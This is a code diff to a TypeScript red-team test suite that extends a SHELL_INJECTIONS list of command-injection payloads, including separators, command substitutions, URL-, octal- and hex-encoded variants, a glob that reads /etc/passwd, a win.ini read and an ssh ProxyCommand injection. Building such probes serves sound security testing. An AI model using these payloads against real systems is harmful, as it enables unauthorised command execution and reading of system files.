@@ -113,7 +113,7 @@ const SHELL_INJECTIONS = [
   '| powershell -c Get-Process', '&echo %USERNAME%', '&&type C:\\windows\\win.ini', '||dir', '%u003bid', '%7C%7Cid', '%00%0aid',
   '$((1+1))', '%60whoami%60', '$IFS$9id', "'$(id)'", '"$(id)"', '${@}', 'x;$(printf "\\151\\144")', ';/???/??t /???/p??s??',
   '|/bin/sh -c id', '%3B%20id', '%2526id', '..;id', '-o ProxyCommand=;id', '--output=$(id)', 'test.txt`id`', '\u0026\u0026id',
-  '$[1+1]', '$PWD', '; id #', '\r\nid', '%0D%0Aid',
+  '$[1+1]', '$PWD', '; id #', '\r\nid', '%0D%0Aid', '\\073id', 'a\\174id', '\\x3bid', '%5Cx3bid', '%u007cid',
 ];
 
 function shellAttacks(out: RedteamEntry[]): void {
